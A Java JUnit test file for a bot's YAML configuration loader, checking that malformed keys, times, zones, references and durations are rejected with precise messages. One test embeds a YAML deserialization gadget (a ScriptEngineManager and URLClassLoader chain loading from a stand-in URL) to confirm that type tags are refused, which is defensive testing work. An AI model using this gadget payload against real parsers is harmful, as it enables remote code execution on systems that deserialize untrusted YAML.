package dev.phasebot.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.phasebot.support.Fixtures;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.LocalTime;
import java.time.ZoneId;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {

    private final ConfigLoader loader = new ConfigLoader();

    @Test
    void theShippedConfigLoadsTheSeedPlan() {
        BotConfig config = Fixtures.shippedConfig();

        assertEquals(ZoneId.of("America/New_York"), config.phase().zone());
        assertEquals(
                List.of(
                        "python-ml-fintech-reviewer",
                        "software-architect",
                        "ml-engineer",
                        "qa-engineer",
                        "senior-system-developer",
                        "devops-engineer"),
                config.agents().stream().map(Agent::id).toList());
        assertEquals("senior-system-developer", config.lead().id());
        assertEquals("Security", config.teams().get(0).name());
        assertTrue(config.isSecurityTeam("python-ml-fintech-reviewer"));
        assertFalse(config.isSecurityTeam("qa-engineer"));
        assertEquals("#alphapy-phase2", config.channel("coordination").name());
        assertEquals("#alphapy-architecture", config.channel("architecture").name());
        assertTrue(config.channel("security").isPrivate());
        assertEquals(LocalTime.of(9, 0), config.standup().time());
        assertEquals(Duration.ofMinutes(15), config.standup().window());
        assertEquals(
                List.of(DayOfWeek.MONDAY, DayOfWeek.TUESDAY, DayOfWeek.WEDNESDAY, DayOfWeek.THURSDAY, DayOfWeek.FRIDAY),
                config.standup().days());
        assertEquals(DayOfWeek.FRIDAY, config.review().day());
        assertEquals(LocalTime.of(14, 0), config.review().time());
        assertEquals(
                List.of(Duration.ofMinutes(30), Duration.ofMinutes(60), Duration.ofHours(2)),
                config.escalation().milestones().stream()
                        .map(EscalationPolicy.Milestone::due)
                        .toList());
        assertEquals(7, config.plan().tasks().size());
        assertEquals(4, config.plan().gates().size());
        assertEquals(List.of("all-other-work"), config.plan().gates().get(0).blocks());
    }

    @Test
    void anUnknownKeyIsRejectedWithItsPathAndTheKeysExpected() {
        ConfigException e = reject(shipped().replace("  window: PT15M", "  window: PT15M\n  windwo: PT20M"));
        assertEquals(
                "test.yml: standup.windwo: unknown key 'windwo' (expected one of: channel, days, holidays, "
                        + "remind_at, security_update, thread, time, window)",
                e.getMessage());
    }

    @Test
    void aMissingKeyIsRejectedWithWhatWasExpected() {
        ConfigException e = reject(shipped().replace("  time: \"09:00\"\n", ""));
        assertEquals("test.yml: standup.time: missing (expected a time of day like 09:00)", e.getMessage());
    }

    @Test
    void aBadZoneIsRejected() {
        ConfigException e = reject(shipped().replace("zone: America/New_York", "zone: America/Gotham"));
        assertEquals(
                "test.yml: phase.zone: expected a time zone id like America/New_York, got 'America/Gotham'",
                e.getMessage());
    }

    @Test
    void aBadTimeIsRejected() {
        ConfigException e = reject(shipped().replace("time: \"09:00\"", "time: \"9am\""));
        assertEquals("test.yml: standup.time: expected a time of day like 09:00, got '9am'", e.getMessage());
    }

    @Test
    void anAgentReferencedButNotDefinedIsRejected() {
        ConfigException e = reject(shipped().replace("leader: senior-system-developer", "leader: chief-architect"));
        assertEquals("test.yml: review.leader: agent 'chief-architect' is not defined under agents", e.getMessage());
    }

    @Test
    void aChannelRoleReferencedButNotDefinedIsRejected() {
        ConfigException e =
                reject(shipped().replace("standup:\n  channel: coordination", "standup:\n  channel: general"));
        assertTrue(
                e.getMessage()
                        .startsWith("test.yml: standup.channel: channel role 'general' is not defined under channels"),
                e.getMessage());
    }

    @Test
    void anAgentOfAnUndefinedTeamIsRejected() {
        ConfigException e = reject(shipped().replace("team: DevOps", "team: Platform"));
        assertTrue(
                e.getMessage().startsWith("test.yml: agents[5].team: team 'Platform' is not defined under teams"),
                e.getMessage());
    }

    @Test
    void aPublicSecurityChannelIsRejected() {
        ConfigException e = reject(shipped().replace("    private: true\n", ""));
        assertTrue(e.getMessage().startsWith("test.yml: channels.security.private: expected true"), e.getMessage());
    }

    @Test
    void yamlTypeTagsAreRejectedBeforeAnythingIsBuilt() {
        ConfigException e = reject(
                shipped()
                        .replace(
                                "docs: \"GitHub discussions\"",
                                "docs: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"));
        assertTrue(e.getMessage().contains("type tag"), e.getMessage());
        assertTrue(e.getMessage().contains("is not allowed"), e.getMessage());
    }

    @Test
    void aDuplicateKeyIsRejected() {
        ConfigException e = reject(shipped().replace("  window: PT15M", "  window: PT15M\n  window: PT20M"));
        assertTrue(e.getMessage().contains("window"), e.getMessage());
    }

    @Test
    void milestonesWhoseOffsetsDoNotIncreaseAreRejected() {
        ConfigException e = reject(shipped().replace("due: PT60M", "due: PT20M"));
        assertEquals(
                "test.yml: escalation.milestones[1].due: expected a due offset later than the milestone "
                        + "before (PT30M), got PT20M",
                e.getMessage());
    }

    @Test
    void aMilestoneWithAnUnknownActIsRejected() {
        ConfigException e = reject(shipped().replace("act: assessment", "act: prayer"));
        assertTrue(
                e.getMessage().startsWith("test.yml: escalation.milestones[0].act: 'prayer' is not allowed"),
                e.getMessage());
    }

    @Test
    void aTaskDependingOnAnUndefinedTaskIsRejected() {
        ConfigException e = reject(shipped().replace("depends_on: [T1, T6]", "depends_on: [T1, T99]"));
        assertEquals("test.yml: plan.tasks[2].depends_on[1]: 'T99' is not a defined task id or gate:N", e.getMessage());
    }

    @Test
    void aReminderOutsideTheWindowIsRejected() {
        ConfigException e = reject(shipped().replace("remind_at: 0.8", "remind_at: 1.5"));
        assertTrue(e.getMessage().startsWith("test.yml: standup.remind_at: expected a fraction"), e.getMessage());
    }

    @Test
    void theShippedConfigKeepsTheSecurityTeamsStandupUpdatePrivate() {
        StandupSettings standup = Fixtures.shippedConfig().standup();
        assertEquals("private", standup.securityUpdate());
        assertTrue(standup.keepsSecurityUpdatePrivate());
    }

    @Test
    void aConfigWithoutTheSecurityUpdateKeyKeepsTheUpdatePrivate() {
        String text = shipped().replaceAll("(?m)^  security_update: private\n", "");
        assertFalse(text.contains("security_update"), "the key is gone from the test's config");
        assertTrue(loader.parse("test.yml", text).standup().keepsSecurityUpdatePrivate());
    }

    @Test
    void publicIsTheOtherSecurityUpdateSetting() {
        BotConfig config =
                loader.parse("test.yml", shipped().replace("security_update: private", "security_update: public"));
        assertFalse(config.standup().keepsSecurityUpdatePrivate());
    }

    @Test
    void aSecurityUpdateSettingOtherThanPrivateOrPublicIsRefusedInOneLineNamingTheKeyAndTheValuesAllowed() {
        for (String bad : List.of("secret", "Private", "true", "\"\"")) {
            ConfigException e = reject(shipped().replace("security_update: private", "security_update: " + bad));
            String shown = bad.equals("\"\"") ? "" : bad;
            assertEquals(
                    "test.yml: standup.security_update: '" + shown + "' is not allowed (expected one of: private, "
                            + "public)",
                    e.getMessage());
        }
        ConfigException e = reject(shipped().replace("security_update: private", "security_update: [private]"));
        assertTrue(e.getMessage().startsWith("test.yml: standup.security_update: "), e.getMessage());
        assertFalse(e.getMessage().contains("\n"), e.getMessage());
    }

    @Test
    void aMissingFileSaysHowToPointAtOne(@TempDir Path dir) {
        ConfigException e = assertThrows(ConfigException.class, () -> loader.load(dir.resolve("nope.yml")));
        assertTrue(e.getMessage().contains("PHASEBOT_CONFIG"), e.getMessage());
    }

    @Test
    void aFileOnDiskIsNamedInTheMessage(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("bot-config.yml");
        Files.writeString(file, shipped().replace("window: PT15M", "window: fifteen"));
        ConfigException e = assertThrows(ConfigException.class, () -> loader.load(file));
        assertEquals(
                file + ": standup.window: expected an ISO-8601 duration like PT15M, got 'fifteen'", e.getMessage());
    }

    @Test
    void anEmptyFileIsRejected() {
        assertTrue(reject("").getMessage().contains("empty"));
    }

    @Test
    void theShippedConfigGivesEachCriticalIncidentARoomArchivedADayAfterItCloses() {
        EscalationPolicy escalation = Fixtures.shippedConfig().escalation();
        assertTrue(escalation.roomsOn());
        assertEquals(
                java.time.Duration.ofHours(24), escalation.incidentChannel().archiveAfter());
    }

    @Test
    void withoutTheIncidentChannelKeyThereAreNoRooms() {
        String text = shipped().replaceAll("(?m)^  incident_channel:\n    archive_after: PT24H\n", "");
        assertFalse(text.contains("incident_channel:"), "the key is gone from the test's config");
        assertFalse(loader.parse("test.yml", text).escalation().roomsOn());
    }

    @Test
    void anIncidentChannelWithoutArchiveAfterIsArchivedADayAfter() {
        BotConfig config = loader.parse(
                "test.yml", shipped().replace("incident_channel:\n    archive_after: PT24H", "incident_channel: {}"));
        assertEquals(
                java.time.Duration.ofHours(24),
                config.escalation().incidentChannel().archiveAfter());
    }

    @Test
    void archiveAfterTakesAnyDurationFromFiveSecondsUp() {
        BotConfig config = loader.parse("test.yml", shipped().replace("archive_after: PT24H", "archive_after: PT5S"));
        assertEquals(
                java.time.Duration.ofSeconds(5),
                config.escalation().incidentChannel().archiveAfter());
    }

    @Test
    void anArchiveAfterBelowFiveSecondsOrNotADurationIsRefusedInOneLineNamingTheKey() {
        ConfigException short_ = reject(shipped().replace("archive_after: PT24H", "archive_after: PT4S"));
        assertEquals(
                "test.yml: escalation.incident_channel.archive_after: expected an ISO-8601 duration of PT5S or more, "
                        + "got PT4S",
                short_.getMessage());
        ConfigException word = reject(shipped().replace("archive_after: PT24H", "archive_after: tomorrow"));
        assertTrue(
                word.getMessage()
                        .startsWith("test.yml: escalation.incident_channel.archive_after: expected an "
                                + "ISO-8601 duration"),
                word.getMessage());
        assertFalse(word.getMessage().contains("\n"), word.getMessage());
    }

    private static String shipped() {
        return Fixtures.shippedConfigText();
    }

    private ConfigException reject(String text) {
        return assertThrows(ConfigException.class, () -> loader.parse("test.yml", text));
    }
}
